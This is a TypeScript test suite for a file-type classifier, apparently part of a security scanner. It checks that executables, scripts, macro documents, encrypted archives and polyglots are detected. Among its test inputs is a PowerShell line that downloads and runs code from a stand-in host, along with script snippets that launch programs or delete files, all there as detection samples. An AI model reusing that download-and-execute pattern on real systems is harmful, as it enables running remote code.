import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { pack as tarPack } from 'tar-stream';
import { identify, type Identified } from './filetype.ts';
import { biffWorkbook, makeOle, makeTnef, makeZip, ooxmlContentTypes, peHeader } from './test-fixtures.ts';

const buf = (b: Buffer | string) => ({ kind: 'buffer' as const, data: typeof b === 'string' ? Buffer.from(b) : b });
const id = (b: Buffer | string) => {
  const c = buf(b);
  return identify(c, c.data.length);
};
const pick = (r: Identified) => [r.category, r.label];

test('PE executables and DLLs are told apart by the COFF characteristics', async () => {
  assert.deepEqual(pick(await id(peHeader(0x0102))), ['executable', 'pe']);
  assert.deepEqual(pick(await id(peHeader(0x2102))), ['executable', 'dll']);
  // e_lfanew beyond the 64 KiB head is still followed.
  assert.deepEqual(pick(await id(peHeader(0x0102, 70_000))), ['executable', 'pe']);
});

test('"MZ" at the start of ordinary text is not an executable', async () => {
  const r = await id('MZ Holdings quarterly report\nRevenue grew by 4% in the period.\n'.repeat(3));
  assert.equal(r.category, 'text');
});

test('ELF, Mach-O (thin and fat) and Java classes', async () => {
  const elf = Buffer.alloc(64);
  elf.write('\x7fELF', 0, 'latin1');
  elf[4] = 2;
  assert.deepEqual(pick(await id(elf)), ['executable', 'elf']);
  const macho = Buffer.alloc(64);
  macho.writeUInt32BE(0xcffaedfe, 0);
  assert.deepEqual(pick(await id(macho)), ['executable', 'macho']);
  const fat = Buffer.alloc(64);
  fat.writeUInt32BE(0xcafebabe, 0);
  fat.writeUInt32BE(2, 4);
  assert.deepEqual(pick(await id(fat)), ['executable', 'macho']);
  const cls = Buffer.alloc(64);
  cls.writeUInt32BE(0xcafebabe, 0);
  cls.writeUInt16BE(0, 4);
  cls.writeUInt16BE(52, 6);
  assert.deepEqual(pick(await id(cls)), ['executable', 'java_class']);
});

test('windows shortcuts are executables', async () => {
  const lnk = Buffer.alloc(76);
  Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]).copy(lnk);
  assert.deepEqual(pick(await id(lnk)), ['executable', 'lnk']);
});

test('scripts: shebang, batch, PowerShell, VBScript, JScript, HTA, WSF, .reg', async () => {
  assert.deepEqual(pick(await id('#!/usr/bin/env python3\nprint("hi")\n')), ['script', 'python']);
  assert.deepEqual(pick(await id('#!/bin/sh\nrm -rf /tmp/x\n')), ['script', 'sh']);
  assert.deepEqual(pick(await id('@echo off\r\ncopy a b\r\n')), ['script', 'bat']);
  assert.deepEqual(pick(await id('rem setup\r\n\r\n@ECHO OFF\r\nstart calc.exe\r\n')), ['script', 'bat']);
  assert.deepEqual(
    pick(await id('$u = "http://x.test/p"\n$w = New-Object System.Net.WebClient\nIEX ($w.DownloadString($u))\nWrite-Host "done"\n')),
    ['script', 'ps1'],
  );
  assert.deepEqual(
    pick(await id('Option Explicit\r\nDim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n')),
    ['script', 'vbs'],
  );
  assert.deepEqual(pick(await id('var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n')), ['script', 'js']);
  assert.deepEqual(
    pick(await id('<html><head><HTA:APPLICATION ID="x" /></head><body><script language="VBScript">x</script></body></html>')),
    ['script', 'hta'],
  );
  assert.deepEqual(pick(await id('<package>\n<job id="a">\n<script language="JScript">WScript.Echo(1)</script>\n</job>\n</package>\n')), ['script', 'wsf']);
  assert.deepEqual(pick(await id('Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n')), ['script', 'reg']);
  // UTF-16LE with BOM, as PowerShell ISE saves by default.
  const ps16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('[CmdletBinding()]\r\nparam([string]$Path)\r\nGet-ChildItem $Path\r\n', 'utf16le')]);
  assert.deepEqual(pick(await id(ps16)), ['script', 'ps1']);
});

test('plain prose that mentions code stays text', async () => {
  const mail = [
    'Hi team,',
    '',
    'As discussed, please run Write-Host in the console to check the output, then echo the result to me.',
    'If the function fails, set the variable again and return to the previous step.',
    'The var name should be "count"; let me know if anything is unclear.',
    '',
    'Thanks, Anna',
  ].join('\n');
  assert.deepEqual(pick(await id(mail)), ['text', 'txt']);
  assert.deepEqual(pick(await id('name,amount,date\nalice,10,2024-01-01\nbob,20,2024-01-02\n')), ['text', 'txt']);
  assert.deepEqual(pick(await id('Name: John\nAge: 42\n\nSome notes.\n')), ['text', 'txt']);
});

test('HTML, SVG and XML by their first element', async () => {
  assert.deepEqual(pick(await id('\ufeff  \n<!DOCTYPE html><html><body>x</body></html>')), ['html', 'html']);
  assert.deepEqual(pick(await id('<!-- saved --><html><body>x</body></html>')), ['html', 'html']);
  assert.deepEqual(pick(await id('<script>window.location="https://x.test"</script>')), ['html', 'html']);
  assert.deepEqual(pick(await id('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')), ['image', 'svg']);
  assert.deepEqual(pick(await id('<?xml version="1.0"?>\n<note><to>x</to></note>')), ['text', 'xml']);
});

test('an RFC 5322 message is recognised, conservatively', async () => {
  const msg = 'Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\r\nFrom: a@x.test\r\nTo: b@y.test\r\nSubject: hello\r\n folded\r\n\r\nbody\r\n';
  assert.deepEqual(pick(await id(msg)), ['message', 'rfc822']);
  assert.deepEqual(pick(await id('From a@x.test Mon Jan  1 00:00:00 2024\nFrom: a@x.test\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n\nhi\n')), ['message', 'rfc822']);
  // Header-like lines without a blank line, or without any mail field, are not a message.
  assert.equal((await id('From: a@x.test\nSubject: hi\nno blank line here')).category, 'text');
});

test('zip, encrypted zip, jar, apk', async () => {
  assert.deepEqual(await id(makeZip([{ name: 'a.txt', data: 'hello' }])), { category: 'archive', label: 'zip', container: 'zip' });
  const enc = await id(makeZip([{ name: 'a.txt', data: 'x' }, { name: 'secret.exe', data: 'xxxx', method: 0, encrypted: true }]));
  assert.equal(enc.encrypted, true);
  assert.equal(enc.container, 'zip');
  const jar = await id(makeZip([{ name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' }, { name: 'a/B.class', data: 'x' }]));
  assert.deepEqual(pick(jar), ['executable', 'jar']);
  assert.equal(jar.container, 'zip');
  const apk = await id(makeZip([{ name: 'AndroidManifest.xml', data: 'x' }, { name: 'classes.dex', data: 'dex' }, { name: 'META-INF/MANIFEST.MF', data: 'm' }]));
  assert.deepEqual(pick(apk), ['executable', 'apk']);
});

test('OOXML: docx vs docm (vbaProject.bin or macro-enabled content type), xlsm with an XLM macro sheet', async () => {
  const docx = makeZip([
    { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') },
    { name: 'word/document.xml', data: '<w:document/>' },
  ]);
  assert.deepEqual(await id(docx), { category: 'office', label: 'docx' });
  const docm = makeZip([
    { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') },
    { name: 'word/document.xml', data: '<w:document/>' },
    { name: 'word/vbaProject.bin', data: makeOle({ 'VBA/dir': 'x', 'VBA/_VBA_PROJECT': 'y' }) },
  ]);
  assert.deepEqual(await id(docm), { category: 'office_macro', label: 'docm', hasMacros: true });
  const byType = makeZip([
    { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') },
    { name: 'word/document.xml', data: '<w:document/>' },
  ]);
  assert.deepEqual(pick(await id(byType)), ['office_macro', 'docm']);
  const xlm = makeZip([
    { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
    { name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' },
  ]);
  assert.deepEqual(pick(await id(xlm)), ['office_macro', 'xlsm']);
  const pptx = makeZip([
    { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml') },
    { name: 'ppt/presentation.xml', data: '<p/>' },
  ]);
  assert.deepEqual(pick(await id(pptx)), ['office', 'pptx']);
});

test('ODF documents, with and without Basic macros', async () => {
  const odt = (extra: { name: string; data: string }[]) =>
    makeZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 }, { name: 'content.xml', data: '<x/>' }, ...extra]);
  assert.deepEqual(await id(odt([])), { category: 'office', label: 'odt' });
  assert.deepEqual(await id(odt([{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }])), { category: 'office_macro', label: 'odt', hasMacros: true });
});

test('OLE: clean doc, doc with a VBA project, xls with _VBA_PROJECT_CUR, ppt', async () => {
  assert.deepEqual(await id(makeOle({ WordDocument: Buffer.alloc(600, 1) })), { category: 'office', label: 'doc' });
  assert.deepEqual(await id(makeOle({ WordDocument: Buffer.alloc(600, 1), 'Macros/VBA/dir': 'x', 'Macros/VBA/_VBA_PROJECT': 'y' })), {
    category: 'office_macro',
    label: 'doc',
    hasMacros: true,
  });
  assert.deepEqual(pick(await id(makeOle({ Workbook: biffWorkbook([0]), '_VBA_PROJECT_CUR/VBA/dir': 'x' }))), ['office_macro', 'xls']);
  assert.deepEqual(pick(await id(makeOle({ 'PowerPoint Document': Buffer.alloc(100) }))), ['office', 'ppt']);
  // Streams in regular sectors (>= 4096 bytes) as well as in the mini stream.
  assert.deepEqual(pick(await id(makeOle({ WordDocument: Buffer.alloc(20_000, 2), 'Macros/VBA/dir': Buffer.alloc(5000) }))), ['office_macro', 'doc']);
});

test('OLE: Excel 4.0 macro sheets and encryption', async () => {
  const xlm = await id(makeOle({ Workbook: biffWorkbook([0, 1]) }));
  assert.deepEqual(xlm, { category: 'office_macro', label: 'xls', hasMacros: true });
  assert.deepEqual(await id(makeOle({ Workbook: biffWorkbook([0]) })), { category: 'office', label: 'xls' });
  assert.deepEqual(await id(makeOle({ Workbook: biffWorkbook([0], { filepass: true }) })), { category: 'office', label: 'xls', encrypted: true });
  // Encrypted OOXML: an OLE wrapper with EncryptionInfo and EncryptedPackage.
  assert.deepEqual(await id(makeOle({ EncryptionInfo: Buffer.alloc(200), EncryptedPackage: Buffer.alloc(5000) })), {
    category: 'office',
    label: 'encrypted_ooxml',
    encrypted: true,
  });
  // Word's FIB fEncrypted flag.
  const fib = Buffer.alloc(1000);
  fib.writeUInt16LE(0xa5ec, 0);
  fib.writeUInt16LE(0x0100, 0x0a);
  assert.deepEqual(await id(makeOle({ WordDocument: fib })), { category: 'office', label: 'doc', encrypted: true });
});

test('a large compound file whose FAT continues through the DIFAT chain', async () => {
  // 9 MiB of stream data needs more than the 109 FAT sectors the header can list.
  const ole = makeOle({ Data: Buffer.alloc(9 * 1024 * 1024, 1), Workbook: biffWorkbook([0, 1], { filler: 20_000 }) });
  assert.ok(ole.readUInt32LE(0x2c) > 109);
  assert.deepEqual(await id(ole), { category: 'office_macro', label: 'xls', hasMacros: true });
});

test('MSI is an executable (root CLSID), Outlook .msg is a message', async () => {
  assert.deepEqual(pick(await id(makeOle({ SummaryInformation: 'x' }, '84100c0000000000c000000000000046'))), ['executable', 'msi']);
  assert.deepEqual(pick(await id(makeOle({ '__substg1.0_0037001F': Buffer.from('s\0u\0b\0', 'latin1'), '__properties_version1.0': Buffer.alloc(32) }))), [
    'message',
    'msg',
  ]);
});

test('a damaged OLE file (FAT loop) is typed without hanging', async () => {
  const ole = makeOle({ WordDocument: Buffer.alloc(20_000, 3) });
  // Point every FAT entry at sector 0: every chain becomes a loop.
  const fatSector = ole.readUInt32LE(0x4c);
  const off = (fatSector + 1) * 512;
  for (let i = 0; i < 128; i++) ole.writeUInt32LE(0, off + i * 4);
  const r = await id(ole);
  assert.ok(['office', 'other'].includes(r.category));
});

test('PDF, encrypted PDF, PDF after junk', async () => {
  assert.deepEqual(await id('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'), { category: 'pdf', label: 'pdf' });
  assert.deepEqual(await id('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n'), {
    category: 'pdf',
    label: 'pdf',
    encrypted: true,
  });
  assert.equal((await id(`${'junk '.repeat(100)}%PDF-1.4\n%%EOF`)).category, 'pdf');
});

test('RTF is office', async () => {
  assert.deepEqual(pick(await id('{\\rtf1\\ansi hello}')), ['office', 'rtf']);
});

test('disk images: ISO 9660 (expandable), VHD footer, DMG trailer', async () => {
  const iso = Buffer.alloc(0x8800);
  iso[0x8000] = 1;
  iso.write('CD001', 0x8001, 'latin1');
  assert.deepEqual(await id(iso), { category: 'disk_image', label: 'iso', container: 'iso' });
  const vhd = Buffer.alloc(4096, 0);
  vhd.write('conectix', 4096 - 512, 'latin1');
  assert.deepEqual(pick(await id(vhd)), ['disk_image', 'vhd']);
  const dmg = Buffer.alloc(100_000, 0x41);
  dmg.write('koly', 100_000 - 512, 'latin1');
  dmg[0] = 0x78;
  dmg[1] = 0x01;
  dmg[2] = 0;
  assert.deepEqual(pick(await id(dmg)), ['disk_image', 'dmg']);
});

test('databases, images, media', async () => {
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(100)]))), ['database', 'sqlite']);
  const mdb = Buffer.alloc(100);
  mdb.write('Standard Jet DB', 4, 'latin1');
  assert.deepEqual(pick(await id(mdb)), ['database', 'mdb']);
  assert.deepEqual(pick(await id(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'))), ['image', 'png']);
  assert.deepEqual(pick(await id(Buffer.from('ffd8ffe000104a464946', 'hex'))), ['image', 'jpeg']);
  assert.deepEqual(pick(await id(Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1'))), ['image', 'gif']);
  const bmp = Buffer.alloc(60);
  bmp.write('BM', 0, 'latin1');
  bmp.writeUInt32LE(60, 2);
  bmp.writeUInt32LE(40, 14);
  assert.deepEqual(pick(await id(bmp)), ['image', 'bmp']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('ID3\x04\x00\x00', 'latin1'), Buffer.alloc(40)]))), ['media', 'mp3']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(40)]))), ['media', 'mp4']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'), Buffer.alloc(40)]))), ['media', 'wav']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('OggS\x00\x02', 'latin1'), Buffer.alloc(40)]))), ['media', 'ogg']);
});

test('archives by magic: gzip, tar (ustar at 257), 7z, rar, bzip2, xz, cab, TNEF', async () => {
  assert.deepEqual(await id(gzipSync(Buffer.from('hello'))), { category: 'archive', label: 'gzip', container: 'gzip' });
  const p = tarPack();
  p.entry({ name: 'a.txt' }, 'hello');
  p.finalize();
  const chunks: Buffer[] = [];
  for await (const c of p) chunks.push(c as Buffer);
  assert.deepEqual(await id(Buffer.concat(chunks)), { category: 'archive', label: 'tar', container: 'tar' });
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(30)]))), ['archive', '7z']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(30)]))), ['archive', 'rar']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), Buffer.alloc(30)]))), ['archive', 'rar']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('BZh91AY&SY', 'latin1'), Buffer.alloc(30)]))), ['archive', 'bzip2']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('fd377a585a00', 'hex'), Buffer.alloc(30)]))), ['archive', 'xz']);
  assert.deepEqual(pick(await id(Buffer.concat([Buffer.from('MSCF\0\0\0\0', 'latin1'), Buffer.alloc(30)]))), ['archive', 'cab']);
  assert.deepEqual(await id(makeTnef([{ title: 'a.txt', data: Buffer.from('x') }])), { category: 'message', label: 'tnef', container: 'tnef' });
});

test('RAR5 with encrypted headers is flagged encrypted', async () => {
  // signature, CRC32, header size 5 (vint), type 4 (archive encryption header)
  const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(4), Buffer.from([0x05, 0x04]), Buffer.alloc(40)]);
  assert.equal((await id(rar)).encrypted, true);
});

test('polyglots resolve to the most dangerous reading: PE with a zip appended, zip behind junk', async () => {
  const zip = makeZip([{ name: 'a.txt', data: 'x' }]);
  assert.deepEqual(pick(await id(Buffer.concat([peHeader(0x0102), zip]))), ['executable', 'pe']);
  const junk = Buffer.alloc(300);
  for (let i = 0; i < junk.length; i++) junk[i] = (i * 7) & 0xff;
  const shifted = makeZip([{ name: 'evil.exe', data: 'x' }], { prefix: junk });
  assert.deepEqual(await id(shifted), { category: 'archive', label: 'zip', container: 'zip' });
});

test('the long tail comes from file-type', async () => {
  assert.deepEqual(await id(Buffer.concat([Buffer.from('04224d18', 'hex'), Buffer.alloc(60)])), { category: 'archive', label: 'lz4' });
  assert.deepEqual(await id(Buffer.concat([Buffer.from('wOFF\0\x01\0\0', 'latin1'), Buffer.alloc(60)])), { category: 'other', label: 'woff' });
});

test('binary noise is other, empty is other/empty', async () => {
  const noise = Buffer.alloc(4096);
  let x = 12345;
  for (let i = 0; i < noise.length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    noise[i] = x >> 16;
  }
  noise[0] = 0x01;
  assert.equal((await id(noise)).category, 'other');
  assert.deepEqual(await id(Buffer.alloc(0)), { category: 'other', label: 'empty' });
});

test('content on disk is typed like content in memory', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'moat-ft-'));
  try {
    const docm = makeZip([
      { name: '[Content_Types].xml', data: ooxmlContentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') },
      { name: 'word/vbaProject.bin', data: makeOle({ 'VBA/dir': 'x' }) },
    ]);
    const pdf = Buffer.from(`%PDF-1.5\n${'x'.repeat(200_000)}\ntrailer << /Encrypt 3 0 R >>\n`);
    const xls = makeOle({ Workbook: Buffer.concat([biffWorkbook([1]), Buffer.alloc(10_000)]) });
    for (const [name, data] of [['a', docm], ['b', pdf], ['c', xls]] as const) {
      const path = join(dir, name);
      await writeFile(path, data);
      assert.deepEqual(await identify({ kind: 'file', path }, data.length), await id(data), name);
    }
    await assert.rejects(identify({ kind: 'file', path: join(dir, 'missing') }, 1), { code: 'ENOENT' });
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
